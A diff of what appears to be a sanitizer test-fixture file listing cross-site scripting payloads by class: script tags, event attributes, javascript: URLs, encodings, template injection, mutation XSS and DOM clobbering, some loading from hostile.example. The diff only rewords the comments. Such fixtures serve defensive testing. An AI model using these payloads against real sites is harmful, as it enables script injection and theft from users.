@@ -1,9 +1,9 @@
-// Strings of our own that would run `alert(1)` or request something from hostile.example on a page that
-// takes them for HTML, by the class of attack that each belongs to.
+// Strings that would run `alert(1)` or request something from hostile.example on a page that treats
+// them as HTML, by class of attack.
 
 const SCRIPT_URL = "javascript:alert(1)";
 
-/** An element whose attribute starts something by itself. */
+/** An element whose attribute runs by itself. */
 const tags = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//hostile.example/tags.js></SCRIPT>",
@@ -58,7 +58,7 @@ const attributes = [
   "<strong onclick\n=\nalert(1)>x</strong>",
 ];
 
-/** An address that is a program, or not what it seems. */
+/** A URL that is a script, or not what it seems. */
 const urls = [
   SCRIPT_URL,
   `<a href="${SCRIPT_URL}">x</a>`,
@@ -86,7 +86,7 @@ const urls = [
   'https://insurer.example.com"onmouseover="alert(1)',
 ];
 
-/** The same once more, so that a filter does not see it and a browser does. */
+/** The same, obfuscated so that a filter misses it and a browser does not. */
 const encodings = [
   "&lt;script&gt;alert(1)&lt;/script&gt;",
   "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
@@ -128,7 +128,7 @@ const mathml = [
   '<math><maction actiontype="statusline#https://hostile.example">x</maction></math>',
 ];
 
-/** What template languages and frameworks run. */
+/** Syntax of template languages and frameworks. */
 const templates = [
   "{{constructor.constructor('alert(1)')()}}",
   "{{7*7}}${alert(1)}#{alert(1)}",
@@ -143,7 +143,7 @@ const templates = [
   "{phone}{count}{__proto__}",
 ];
 
-/** Harmless when parsed once, and not when the result is parsed again. */
+/** Harmless when parsed once, but not when the result is parsed again. */
 const mutation = [
   "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
@@ -158,7 +158,7 @@ const mutation = [
   "<ul><li <b onclick=alert(1)>x",
 ];
 
-/** Names that stand in for what scripts look for in the page, or for what all objects have. */
+/** Names that shadow global variables, or properties of all objects. */
 const clobbering = [
   '<form id="document"><input name="body"><input name="getElementById"></form>',
   '<a id="location"></a><a id="location" name="href" href="https://hostile.example"></a>',
